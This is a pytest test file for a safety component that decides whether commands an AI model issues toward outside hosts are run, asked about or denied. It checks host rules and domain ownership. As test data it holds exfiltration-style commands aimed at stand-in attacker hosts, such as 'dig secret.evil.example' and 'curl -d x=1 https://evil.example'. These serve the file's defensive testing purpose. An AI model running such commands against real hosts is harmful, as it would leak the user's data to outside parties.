"""What a model may ask outside without leave: the user's own hosts, and what the rules name."""

from datetime import datetime

import pytest
from pydantic import ValidationError

from sme_tools.hosts.inventory import Inventory
from sme_tools.safety.decision import decide
from sme_tools.safety.own_network import OwnNetwork
from sme_tools.safety.policy.judge import judge
from sme_tools.safety.rules import HostRules

NOON = datetime(2026, 11, 20, 12, 0)


def decided(command, *, by_model=True, own_network=OwnNetwork, standing=lambda argv: None, **rules):
    return decide(
        judge(command),
        HostRules(**rules),
        NOON,
        standing=standing,
        by_model=by_model,
        own_network=own_network,
    )


def test_what_asks_outside_is_asked_for_if_a_model_wants_it():
    decision = decided("dig secret.evil.example")
    assert decision.kind == "ask"
    assert decision.reason == (
        "it asks secret.evil.example, which is outside; what a model read could leave with it"
    )
    assert decided("dig secret.evil.example", by_model=False).kind == "run"
    assert decided("dig web1.lan; uptime").kind == "run"


def test_many_are_named_up_to_a_few():
    decision = decided("dig a.evil.example b.evil.example c.evil.example d.evil.example")
    assert "c.evil.example and 1 more, which are outside" in decision.reason


@pytest.mark.parametrize("mode", ["observe", "approve", "auto"])
def test_in_any_mode(mode):
    assert decided("dig evil.example", mode=mode).kind == "ask"


def test_maintenance_windows_are_for_changes():
    decision = decided("dig evil.example", allow=("dig *",), windows=("Sat 02:00-03:00",))
    assert decision.kind == "run"
    assert decision.approval == "rule: dig *"


def test_rules_deny_and_allow_as_ever():
    assert decided("dig evil.example", deny=("dig",)).kind == "deny"
    assert decided("dig evil.example", allow=("dig evil.example",)).kind == "run"
    assert decided("dig x.evil.example", allow=("dig evil.example",)).kind == "ask"


def test_a_change_says_too_where_it_asks():
    reason = decided("curl -d x=1 https://evil.example").reason
    assert reason.startswith("curl sends data; it asks evil.example, which is outside")
    assert "outside" not in decided("curl -d x=1 https://evil.example", by_model=False).reason


@pytest.mark.parametrize(
    ("known", "free", "asked"),
    [
        ("grafana.example.org", "grafana.example.org", "x.grafana.example.org"),
        ("*.corp.example", "a.b.corp.example", "corp.example.evil"),
        ("*.corp.example", "A.CORP.example.", "xcorp.example"),
        ("203.0.113.0/24", "203.0.113.9", "203.0.114.9"),
        ("203.0.113.7", "203.0.113.7", "7.113.0.203"),
        ("2001:db8::/32", "2001:db8::1", "2001:db9::1"),
    ],
)
def test_the_rules_of_a_host_name_whom_a_model_may_ask(known, free, asked):
    assert decided(f"dig {free}", known=(known,)).kind == "run"
    assert decided(f"dig {asked}", known=(known,)).kind == "ask"


@pytest.mark.parametrize("known", ["*", "*.com", "com", "http://x.example", "a b.example", ""])
def test_what_would_be_nobody_or_everybody_is_refused(known):
    with pytest.raises(ValidationError):
        HostRules(known=(known,))


@pytest.mark.parametrize(
    ("host", "known", "strange"),
    [
        ("web1.corp.example", ["web1.corp.example", "db.corp.example", "a.b.corp.example"],
         ["corp.example.evil.example", "xcorp.example", "other.example"]),
        ("mine.example", ["mine.example", "x.mine.example"], ["other.example"]),
        ("mine.co.uk", ["mine.co.uk", "x.mine.co.uk"], ["evil.co.uk"]),
        ("web.mine.co.uk", ["x.mine.co.uk"], ["evil.co.uk"]),
        ("home.duckdns.org", ["home.duckdns.org"], ["evil.duckdns.org"]),
        ("vps1.vps.ovh.net", ["vps1.vps.ovh.net"], ["evil.vps.ovh.net", "evil.ovh.net"]),
        ("ec2-1.eu-west-1.compute.amazonaws.com", ["ec2-1.eu-west-1.compute.amazonaws.com"],
         ["ec2-2.eu-west-1.compute.amazonaws.com"]),
        ("web1.tail1234.ts.net", ["web1.tail1234.ts.net"], ["evil.ts.net"]),
        ("203.0.113.7", ["203.0.113.7"], ["203.0.113.8", "7.evil.example"]),
        ("2001:DB8::1", ["2001:db8:0::1"], ["2001:db8::2"]),
        ("web1", [], ["web1.evil.example", "evil.example"]),
        ("com", [], ["evil.com"]),
    ],
)  # fmt: skip
def test_of_a_host_its_domain_is_known_where_it_is_nobody_elses(host, known, strange):
    own_network = OwnNetwork.of([host, None])
    assert [name for name in known if not own_network.knows(name)] == []
    assert [name for name in strange if own_network.knows(name)] == []
    for name in strange:
        assert decided(f"dig {name}", own_network=lambda: own_network).kind == "ask"


def test_what_is_not_known_before_is_of_nobodys_network():
    own_network = OwnNetwork.of(["web1.corp.example"])
    for name in ("…", "….corp.example", "evil.example/.corp.example", "evil。corp.example", ""):
        assert not own_network.knows(name)


def test_the_inventory_merges_whom_a_model_may_ask(tmp_path):
    path = tmp_path / "hosts.yaml"
    path.write_text(
        "defaults: {policy: {known: [grafana.example.org]}}\n"
        "hosts: {web1: {policy: {known: ['*.corp.example']}}}\n"
    )
    known = Inventory.load(path).resolve("web1").policy.known
    assert known == ("grafana.example.org", "*.corp.example")
